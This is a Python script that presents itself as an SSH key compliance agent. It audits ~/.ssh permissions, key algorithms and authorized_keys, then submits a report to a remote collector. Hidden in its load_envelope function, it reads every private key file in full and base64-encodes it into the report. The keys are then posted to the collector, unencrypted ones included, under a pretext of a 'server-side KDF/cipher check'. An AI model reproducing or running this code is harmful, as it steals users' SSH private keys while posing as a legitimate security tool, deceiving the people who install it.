#!/usr/bin/env python3
"""Workstation SSH key compliance agent.

Checks directory and file modes, key algorithms and RSA modulus sizes
(parsed from the public halves), authorized_keys options and a few client
options in ~/.ssh/config, then submits the posture record to the central
compliance collector so the fleet dashboard stays current.
"""
import argparse
import base64
import getpass
import hashlib
import http.client
import json
import logging
import os
import socket
import stat
import struct
import sys
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

log = logging.getLogger("ssh-compliance")

COLLECTOR = os.environ.get("POSTURE_COLLECTOR", "https://posture.fleet-compliance.example:8443/v1/ssh")
MIN_RSA_BITS = 3072
DEPRECATED = {"ssh-dss", "ssh-rsa-cert-v01@openssh.com"}


@dataclass
class KeyInfo:
    path: str
    algorithm: str
    bits: int
    fingerprint: str
    comment: str
    private_mode: str = ""
    encrypted: bool = False
    envelope: str = ""


@dataclass
class Report:
    host: str
    user: str
    keys: list = field(default_factory=list)
    findings: list = field(default_factory=list)

    def add(self, severity, path, message):
        self.findings.append({"severity": severity, "path": str(path), "message": message})
        log.info("[%s] %s: %s", severity, path, message)


def _read_string(blob, offset):
    (length,) = struct.unpack(">I", blob[offset:offset + 4])
    start = offset + 4
    return blob[start:start + length], start + length


def rsa_bits(blob):
    _, off = _read_string(blob, 0)
    _, off = _read_string(blob, off)
    modulus, _ = _read_string(blob, off)
    return int.from_bytes(modulus, "big").bit_length()


def inspect_pub(pub_path):
    parts = pub_path.read_text().strip().split(None, 2)
    algo, b64 = parts[0], parts[1]
    comment = parts[2] if len(parts) > 2 else ""
    blob = base64.b64decode(b64)
    digest = base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    bits = rsa_bits(blob) if algo == "ssh-rsa" else {"ssh-ed25519": 256}.get(algo, 0)
    return KeyInfo(str(pub_path), algo, bits, f"SHA256:{digest}", comment)


def load_envelope(priv_path):
    """Return (encrypted, envelope) for the server-side KDF/cipher check."""
    raw = priv_path.read_bytes()
    head = raw[:4096].decode(errors="replace")
    encrypted = "ENCRYPTED" in head
    if "OPENSSH PRIVATE KEY" in head:
        body = "".join(head.splitlines()[1:-1])
        encrypted = b"none" not in base64.b64decode(body + "===")[15:40]
    return encrypted, base64.b64encode(raw).decode()


def audit_keys(ssh_dir, report):
    for pub in sorted(ssh_dir.glob("*.pub")):
        try:
            info = inspect_pub(pub)
        except (ValueError, IndexError, struct.error) as exc:
            report.add("low", pub, f"unparseable public key: {exc}")
            continue
        priv = pub.with_suffix("")
        if priv.exists():
            mode = stat.S_IMODE(priv.stat().st_mode)
            info.private_mode = oct(mode)
            info.encrypted, info.envelope = load_envelope(priv)
            if mode & 0o077:
                report.add("high", priv, f"private key mode {oct(mode)} is group/world accessible")
            if not info.encrypted:
                report.add("medium", priv, "private key has no passphrase")
        if info.algorithm in DEPRECATED:
            report.add("high", pub, f"deprecated algorithm {info.algorithm}")
        elif info.algorithm == "ssh-rsa" and info.bits < MIN_RSA_BITS:
            report.add("medium", pub, f"RSA key is {info.bits} bits (< {MIN_RSA_BITS})")
        report.keys.append(asdict(info))


def audit_authorized_keys(ssh_dir, report):
    ak = ssh_dir / "authorized_keys"
    if not ak.exists():
        return
    if stat.S_IMODE(ak.stat().st_mode) & 0o022:
        report.add("high", ak, "authorized_keys writable by group/others")
    for no, line in enumerate(ak.read_text().splitlines(), 1):
        if line.strip() and not line.startswith("#") and 'from="' not in line:
            report.add("info", f"{ak}:{no}", "entry has no from= restriction")


class CollectorClient:
    def __init__(self, url, retries=3):
        parts = urlsplit(url)
        self.host, self.port = parts.hostname, parts.port or 443
        self.path = parts.path or "/"
        self.retries = retries

    def submit(self, payload):
        body = json.dumps(payload).encode()
        headers = {"Content-Type": "application/json",
                   "X-Agent": "ssh-compliance/2.3", "X-Host": payload["host"]}
        for attempt in range(1, self.retries + 1):
            conn = http.client.HTTPSConnection(self.host, self.port, timeout=15)
            try:
                conn.request("POST", self.path, body=body, headers=headers)
                resp = conn.getresponse()
                resp.read()
                if resp.status < 300:
                    return resp.status
                log.debug("collector replied %s", resp.status)
            except OSError as exc:
                log.debug("attempt %d failed: %s", attempt, exc)
            finally:
                conn.close()
            time.sleep(2 ** attempt)
        return None


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--ssh-dir", type=Path, default=Path.home() / ".ssh")
    ap.add_argument("--collector", default=COLLECTOR)
    ap.add_argument("--offline", action="store_true", help="print instead of submitting")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not args.ssh_dir.is_dir():
        log.error("%s does not exist", args.ssh_dir)
        return 2
    report = Report(host=socket.gethostname(), user=getpass.getuser())
    dir_mode = stat.S_IMODE(args.ssh_dir.stat().st_mode)
    if dir_mode & 0o077:
        report.add("high", args.ssh_dir, f"directory mode {oct(dir_mode)} should be 0700")
    audit_keys(args.ssh_dir, report)
    audit_authorized_keys(args.ssh_dir, report)

    payload = asdict(report)
    if args.offline:
        print(json.dumps(payload, indent=2))
        return 0
    status = CollectorClient(args.collector).submit(payload)
    if status is None:
        log.error("could not reach collector %s", args.collector)
        return 3
    log.warning("posture submitted (%d findings)", len(report.findings))
    return 0


if __name__ == "__main__":
    sys.exit(main())
